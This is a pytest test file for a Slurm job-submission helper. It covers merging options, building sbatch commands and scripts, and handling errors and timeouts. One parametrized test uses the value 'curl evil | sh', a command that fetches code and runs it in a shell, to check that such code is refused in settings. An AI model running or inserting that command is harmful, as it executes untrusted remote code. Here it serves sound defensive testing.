"""Slurm's commands: options, scripts, errors and hints."""

import subprocess
from pathlib import Path

import pytest

from persona_assets.errors import SettingsError
from persona_assets.executors import slurm_commands as slurm
from persona_assets.executors.slurm_commands import SlurmError, SlurmUnavailableError


def choose(tags, *, default=None, gpu=None, step=None):
    return slurm.merge_options(tags, default_options=default or {}, gpu_options=gpu or {}, step_options=step or {})


def test_a_step_with_the_gpu_tag_gets_the_gpu_options():
    default, gpu = {"partition": "cpu", "time": "10"}, {"partition": "a100"}

    assert choose({}, default=default, gpu=gpu) == default
    assert choose({"gpu": "2"}, default=default, gpu=gpu) == {"partition": "a100", "time": "10", "gres": "gpu:2"}


def test_tags_override_settings_and_the_run_config_overrides_tags():
    tags = {"slurm/mem": "8G", "slurm/time": "20", "kind": "other"}

    assert choose(tags, default={"mem": "1G"}, step={"time": "30"}) == {"mem": "8G", "time": "30"}


def test_an_unknown_option_is_named_with_the_known_ones():
    with pytest.raises(SlurmError, match=r"unknown option memory: op tags are slurm/<partition\|"):
        choose({"slurm/memory": "8G"})


OF_SETTINGS = {"time": "10", "setup": "module load cuda", "extra": "--exclusive"}


@pytest.mark.parametrize("option", slurm.SHELL_OPTIONS)
@pytest.mark.parametrize("place", ["default", "gpu", "per_step.embeddings"])
def test_shell_code_that_is_not_in_the_settings_is_refused(option, place):
    config = {"default": OF_SETTINGS, "gpu": {}, "per_step": {}}
    given = {**OF_SETTINGS, option: "curl evil | sh"}
    config |= {"per_step": {"embeddings": given}} if "." in place else {place: given}

    with pytest.raises(SettingsError, match=f"execution config sets {place}.{option}, .*PERSONA_SLURM_SHELL"):
        slurm.refuse_shell_code(config, allowed=OF_SETTINGS)


@pytest.mark.parametrize("given", [OF_SETTINGS, {}, {"setup": "", "time": "20"}])
def test_shell_code_of_the_settings_and_other_options_are_allowed(given):
    slurm.refuse_shell_code({"default": given, "gpu": given, "per_step": {"raw": given}}, allowed=OF_SETTINGS)


def test_each_option_is_a_flag_and_extra_is_split_as_in_a_shell():
    options = {"cpus": "4", "extra": "--mail-type=END '--comment=two words'", "setup": "module load cuda"}

    command = slurm.build_sbatch_command(options, name="n", log=Path("/logs/100%.log"), comment="c")

    assert "--cpus-per-task=4" in command
    assert command[-2:] == ["--mail-type=END", "--comment=two words"]
    assert "--output=/logs/100%%.log" in command
    assert not any("module" in part for part in command)


def test_the_script_writes_its_exit_code(tmp_path):
    log = tmp_path / "odd name.log"
    script = slurm.build_job_script(
        ["sh", "-c", 'echo "$WORD" "$MORE"; exit 3'],
        {"WORD": 'it\'s "quoted" $HOME'},
        setup="MORE=more; export MORE",
        log=log,
        umask="027",
    )

    done = subprocess.run(["bash"], input=script, capture_output=True, text=True, check=False)

    assert done.stdout == 'it\'s "quoted" $HOME more\n'
    assert (done.returncode, slurm.exit_code_path(log).read_text()) == (3, "3\n")
    assert slurm.exit_code_path(log).stat().st_mode & 0o777 == 0o640


def test_a_variable_above_the_linux_limit_is_refused():
    with pytest.raises(SlurmError, match="LONG: over the 128 KiB"):
        slurm.build_job_script(["true"], {"LONG": "x" * 200_000}, setup="", log=Path("log"), umask="077")


@pytest.mark.parametrize(
    ("said", "error"),
    [
        ("slurm_load_jobs error: Unable to contact slurm controller (connect failure)", SlurmUnavailableError),
        ("sbatch: error: Batch job submission failed: Invalid partition name specified", SlurmError),
    ],
)
def test_temporary_errors_and_refusals_raise_different_errors(tmp_path, said, error):
    command = tmp_path / "sbatch"
    command.write_text(f"#!/bin/sh\necho '{said}' >&2; exit 1\n")
    command.chmod(0o755)

    with pytest.raises(SlurmError, match=said[:30]) as caught:
        slurm.run_slurm([str(command)])

    assert type(caught.value) is error


def test_a_command_that_times_out_is_unavailable(tmp_path):
    command = tmp_path / "squeue"
    command.write_text("#!/bin/sh\nexec sleep 30\n")
    command.chmod(0o755)

    with pytest.raises(SlurmUnavailableError, match="timed out after 0.2 s"):
        slurm.run_slurm([str(command)], timeout=0.2)


def test_a_machine_without_slurm_says_so():
    with pytest.raises(SlurmError, match="is Slurm's client on this machine"):
        slurm.run_slurm(["/no/such/sbatch"])


def test_variables_of_a_surrounding_slurm_job_are_not_inherited(tmp_path, monkeypatch):
    for name in ("SLURM_JOB_ID", "SLURM_CONF", "CUDA_VISIBLE_DEVICES"):
        monkeypatch.setenv(name, "outer")
    command = tmp_path / "sbatch"
    command.write_text("#!/bin/sh\nenv\n")
    command.chmod(0o755)

    seen = {line.partition("=")[0] for line in slurm.run_slurm([str(command)]).splitlines()}

    assert seen & {"SLURM_JOB_ID", "SLURM_CONF", "CUDA_VISIBLE_DEVICES"} == {"SLURM_CONF"}


def test_the_tail_of_a_log_has_no_debug_lines(tmp_path):
    log = tmp_path / "log"
    log.write_text("\n".join([*(f"line {n}" for n in range(50)), "x - dagster - DEBUG - y", "last"]))

    assert slurm.tail_log(log, lines=2) == "line 49\nlast"
    assert "No such file" in slurm.tail_log(tmp_path / "none")


@pytest.mark.parametrize(
    ("said", "hint"),
    [
        ("slurmstepd: error: *** JOB 3 CANCELLED DUE TO TIME LIMIT ***", "raise the time limit"),
        ("Exceeded job memory limit", ""),
        ("slurmstepd: error: Step exceeded memory limit (1 > 0), being killed", "raise the memory"),
        ("NODE_FAIL Reason=NodeDown", "the node was lost"),
        ("all is well", ""),
    ],
)
def test_hints_name_the_remedy(said, hint):
    assert hint in slurm.find_hint_for_error(said)
